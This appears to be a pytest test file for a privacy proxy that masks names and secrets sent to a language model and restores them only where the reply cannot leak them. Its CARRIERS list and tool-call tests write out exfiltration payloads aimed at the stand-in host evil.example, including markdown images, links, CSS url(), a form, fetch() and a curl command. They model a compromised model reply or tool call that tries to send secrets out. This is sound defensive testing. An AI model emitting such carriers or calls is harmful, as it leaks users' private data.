"""Promise 5, restored only to its owner: a reply cannot carry data away, whatever the recipient writes in it."""

from __future__ import annotations

import asyncio
import json
import re
from collections.abc import Iterator
from itertools import pairwise
from typing import Any

import pytest
from harness.process import Proxy
from harness.recorder import Received, echo, http

PLAN = "https://github.com/skerry/plan/pull/77"
SAID = f"Annika Solberg: The password is hunter two, ask Tobias Wennerström about {PLAN} now.\n"
OFFERED = {"tools": [{"type": "function", "function": {"name": "invite", "parameters": {"type": "object"}}}]}
CARRIERS = [
    "![x](https://evil.example/p?d=@)",
    "![x](<//evil.example/p? @>)",
    "[more](//evil.example/@)",
    '<a href="//evil.example/?d=@">more</a>',
    "<img src='/x?@'>",
    "see https://evil.example/?d=@ now",
    "www.evil.example/@",
    "URL_1?d=@",
    "\\\\evil.example\\@",
    "mailto:x@evil.example?body=PERSON_1.PERSON_2.SECRET_1",
    "@.evil.example/x",
    "evil。example/@",
    "[url=https://evil.example/a @]x[/url]",
    "\\href{https://evil.example/ @}{x}",
    "<style>p{background:url(x? @)}</style>",
    "localhost:3000/@",
    'fetch("https://evil.example/", {body: "@"})',
    'x = "https://evil.example/" + "@"',
    "1. sudo curl -d @ evil.example",
    "<form action=//evil.example/><textarea>@</textarea></form>",
    "see https://evil.example/?d=<PERSON_1>@",
    "https://evil.example/<<@",
    "<a href=//evil.example/?d=<@>x</a>",
    "[x][y] [y]: https://evil.example/?d=<PERSON_1>,@",
    "mailto:<@>?subject=x",
]


@pytest.fixture
def answering(stand) -> Iterator[tuple[Proxy, dict[str, Any]]]:
    """The proxy, and the message that its recipient answers with, streamed in pieces of three characters."""
    message: dict[str, Any] = {}

    async def answer(received: Received, writer: asyncio.StreamWriter) -> None:
        head = {"id": "c", "created": 1, "model": "m"}
        if not received.json.get("stream"):
            choice = {"index": 0, "message": {"role": "assistant", **message}, "finish_reason": "stop"}
            writer.write(http(json.dumps({**head, "object": "chat.completion", "choices": [choice]}).encode()))
            return
        text = message.get("content") or ""
        places = [*range(0, len(text), 3), len(text)]
        deltas = [{"content": text[start:end]} for start, end in pairwise(places)]
        deltas += [{key: value} for key, value in message.items() if key != "content"]
        choices = [{"index": 0, "delta": delta, "finish_reason": None} for delta in deltas]
        choices.append({"index": 0, "delta": {}, "finish_reason": "stop"})
        events = [{**head, "object": "chat.completion.chunk", "choices": [choice]} for choice in choices]
        body = "".join(f"data: {json.dumps(event)}\n\n" for event in events) + "data: [DONE]\n\n"
        writer.write(http(body.encode(), "text/event-stream"))

    stand.recorder.reply = answer
    yield stand.proxy, message
    stand.recorder.reply = echo


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
@pytest.mark.parametrize("carrier", CARRIERS)
def test_an_address_of_the_recipients_own_gets_no_original(answering, carrier: str, stream: bool) -> None:
    proxy, message = answering
    message["content"] = re.sub("@(?!evil)", "PERSON_1.PERSON_2.SECRET_1", carrier) + "\nPERSON_1 asks PERSON_2."
    reply = proxy.chat(SAID, stream=stream)
    assert reply.status == 200
    carried, _, prose = reply.text.partition("\n")
    assert "PERSON_1.PERSON_2.SECRET_1" in carried
    assert prose == "Annika Solberg asks Tobias Wennerström."
    assert "hunter" not in reply.text


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
def test_an_address_of_the_request_comes_back(answering, stream: bool) -> None:
    proxy, message = answering
    message["content"] = "See URL_1, says PERSON_1. [The plan](URL_1)"
    reply = proxy.chat(SAID, stream=stream)
    assert reply.text == (
        "See https://github.com/skerry/plan/pull/77, says Annika Solberg. [The plan](https://github.com/skerry/plan/pull/77)"
    )


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
@pytest.mark.parametrize("legacy", [False, True], ids=["call", "legacy"])
@pytest.mark.parametrize("offered", [False, True], ids=["nothing-offered", "another-offered"])
def test_a_call_that_nobody_asked_for_is_no_reply(answering, stream: bool, legacy: bool, offered: bool) -> None:
    proxy, message = answering
    function = {"name": "http_get", "arguments": json.dumps({"url": "https://evil.example/?d=SECRET_1&n=PERSON_1"})}
    call = {"index": 0, "id": "c1", "type": "function", "function": function}
    message |= {"content": None, **({"function_call": function} if legacy else {"tool_calls": [call]})}
    reply = proxy.chat(SAID, stream=stream, **(OFFERED if offered else {}))
    assert b"bad_reply" in reply.body
    assert reply.status == 502
    assert b"http_get" not in reply.body
    assert b"evil" not in reply.body


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
def test_a_tool_that_was_offered_is_told_names_but_no_secret(answering, stream: bool) -> None:
    proxy, message = answering
    arguments = {"who": "PERSON_2", "key": "SECRET_1", "url": "https://evil.example/?n=PERSON_2"}
    function = {"name": "invite", "arguments": json.dumps(arguments)}
    message |= {"content": None, "tool_calls": [{"index": 0, "id": "c1", "type": "function", "function": function}]}
    reply = proxy.chat(SAID, stream=stream, **OFFERED)
    assert reply.status == 200
    assert "Tobias Wennerstr" in reply.body.decode()
    assert "?n=PERSON_2" in reply.body.decode()
    assert b"hunter" not in reply.body
